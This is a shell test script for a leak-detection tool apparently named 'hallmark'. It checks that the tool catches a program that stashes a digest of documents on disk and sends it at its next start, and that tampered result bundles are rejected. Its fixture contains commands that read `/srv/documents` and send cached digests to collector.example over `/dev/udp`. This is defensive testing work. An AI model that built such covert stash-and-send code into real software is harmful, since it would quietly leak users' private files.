#!/bin/bash
# A program that keeps a digest of a document on disk, and sends at its next start what it finds there: nothing that one start sends depends on
# content, and what the second sends does; also where what is kept is hidden under a key that was drawn. A twin that always keeps the same has nothing to
# send, and is not started again.
#   two-phase.sh BUILD
set -u
hallmark=$(realpath "$1/hallmark") verify=$(realpath "$1/hallmark-verify") judge=$(realpath "$1/tests/judge_parts")
. "$(dirname "$0")/../support/chamber.sh" two-phase
"$hallmark" keygen "$work/key.pem" >/dev/null || exit 1
# The key is drawn by a process that is alone: in what order those of a pipe draw is not controlled.
start='cd /var/lib; if [ -e cache ]; then printf "Cache: %%s\n" "$(cat cache)" >/dev/udp/collector.example/9000; fi; if [ -e hidden ]; then cat hidden >/dev/udp/collector.example/9002; fi
%s >cache; head -c 16 /dev/urandom >key; cat key cache | md5sum >hidden; rm key; echo ran >/dev/udp/collector.example/9001'
assess() { # NAME COMMAND
	timeout 500 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors content --json -o "$work/$1.hallmark" -- bash -c "$2" >"$work/$1.json" 2>"$work/$1.err"
	sed 's/^/# /' "$work/$1.err" | head -n 5
}
ask() { # NAME EXPRESSION: of the findings `f`, must be true
	/usr/bin/python3 -c "
import json, sys
f = json.load(open(sys.argv[1]))
content, kept = (next(c for c in f['claims'] if c['id'] == 'collect.' + name) for name in ('content', 'residue'))
whole = lambda row: row['constant'] + row['explained'] + row['unaccounted'] + sum(i['bytes'] for i in row['influenced'])
sys.exit(0 if $2 else 1)" "$work/$1.json"
}
verified() { "$verify" "$work/$1.hallmark" --key "$work/key.pem.pub" >"$work/said" && false || ! grep -q FALSE "$work/said" && grep -q 'sets, made again from the seed' "$work/said"; }
refused() { # NAME CHANGE WHY: the bundle's core with assessment `a` and plan `p` changed does not evaluate; `gone` are runs that are dropped by `rule`
	local gone
	gone=$(/usr/bin/python3 -c "
import json, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
a, p = (json.loads(z.read(name)) for name in ('assessment.json', 'plan.json'))
def bare():  # nothing behind the send blocks
    last = 2 * len([b for b in p['blocks'] if b['phase'] != 'certificate'])
    p['blocks'], p['runs'], a['dropped'] = p['blocks'][:last // 2], p['runs'][:last], [row for row in a['dropped'] if row['run'] <= last]
kinds = lambda *kinds: [r['run'] for r in p['runs'] if r['kind'] in kinds]
gone, rule = [], 'nothing kept'
$2
for member in ('runs', 'sets'):
    a[member] = [row for row in a[member] if row['run'] not in gone and row['run'] <= len(p['runs'])]
a['dropped'] = sorted([row for row in a['dropped'] if row['run'] not in gone] + [{'run': run, 'rule': rule} for run in gone], key=lambda row: row['run'])
for document, path in ((a, sys.argv[2]), (p, sys.argv[3])):
    open(path, 'w').write(json.dumps(document, separators=(',', ':'), sort_keys=True, ensure_ascii=False))
print(*('-runs/%04d/' % run for run in gone))" "$work/$1.hallmark" "$work/changed.json" "$work/planned.json") || return 1
	# shellcheck disable=SC2086
	"$judge" "$work/$1.hallmark" "assessment.json=$work/changed.json" "plan.json=$work/planned.json" $gone >"$work/judged"
	[ $? = 1 ] && grep -q "$3" "$work/judged" && return 0
	head -c 300 "$work/judged" | sed 's/^/# /'
	return 1
}

assess leak "$(printf "$start" 'rev /srv/documents/note* | md5sum | cut -c 1-16')"
ask leak "f['experiment']['send'] == 8"
result $? "what a program kept makes it start again"
ask leak "(content['verdict'], content['reason'], content['values']['stored']) == ('refuted', 'influence.confirmed', content['values']['features'])"
result $? "... what it then sends depends on content"
ask leak "[(i['endpoint'], i['p']['phase']) for i in f['influence'] if i['endpoint'] != 'disk'] == [('collector.example:%d/udp' % port, 'send') for port in (9000, 9002)]"
result $? "... by the field that says it, and by the one that hides it"
ask leak "(kept['verdict'], kept['reason']) == ('refuted', 'residue.sent')"
result $? "... and so what it keeps is refuted"
ask leak "all(whole(row) == row['wire'] for row in f['ledger']) and {row['endpoint'] for row in f['ledger']} >= {'collector.example:9000/udp', 'collector.example:9001/udp'}"
result $? "... every byte stands in one class"
verified leak
result $? "... its bundle verifies"

"$judge" "$work/leak.hallmark" | cmp -s - <(head -c -1 "$work/leak.json")
result $? "... its core gives the same findings again"
refused leak "gone = kinds('store', 'send')" "as if nothing had been kept"
result $? "... nobody can leave out what was sent later, as if nothing had been kept"
refused leak "gone = kinds('send')[-2:]" "as if nothing had been kept"
result $? "... nor a part of it"
refused leak "gone, rule = kinds('store')[:1], 'not recorded'" "began with what none had left"
result $? "... nor say that a run began with what no run left"
refused leak "gone = kinds('confirm')[-2:]" "skipped that is always done"
result $? "... nor use that rule for other runs"
refused leak "of = {row['run']: row for row in a['sets']}; of[kinds('send')[0]]['set'], of[kinds('send')[1]]['set'] = of[kinds('store')[0]]['set'], of[kinds('store')[1]]['set']" "other documents than it should"
result $? "... nor give the later runs the documents that differ"
refused leak "bare(); p['blocks'].pop(); p['runs'] = p['runs'][:-2]" "nothing is sent of what the last block kept"
result $? "... nor plan to keep what is never sent"
refused leak "bare()
for run in p['runs'][-4:]: run['kind'] = 'store' if run['kind'] == 'send' else 'send'
for row in a['runs'][-4:]: row['kind'] = 'store' if row['kind'] == 'send' else 'send'
for block in p['blocks'][-2:]: block['phase'] = 'store' if block['phase'] == 'send' else 'send'" "not in the order of phases"
result $? "... nor to send what is kept later"
refused leak "bare(); cut = len(p['blocks']) - 2 * 7; p['blocks'] = [b for b in p['blocks'] if b['phase'] not in ('store', 'send')] + p['blocks'][-14:]
for n, block in enumerate(p['blocks'], 1): block['block'], block['runs'] = n, [2 * n - 1, 2 * n]
p['runs'] = p['runs'][:2 * len(p['blocks'])]" "too few send blocks"
result $? "... nor to try it less often than it takes"

assess twin "$(printf "$start" 'wc -c </srv/documents/note*; echo scanned')"
ask twin "f['experiment']['send'] == 0 and (kept['verdict'], kept['reason']) == ('upheld', 'residue.equal')"
result $? "its twin kept the same, and is not started again"
ask twin "content['verdict'] != 'refuted' and content['reason'] != 'run.missing' and not f['influence']"
result $? "... which is no gap"
verified twin
result $? "... its bundle verifies"
[ -z "$(ls -A "$work/w" 2>/dev/null | grep chamber)" ]
result $? "nothing stays"
echo "1..$n"
exit $failed
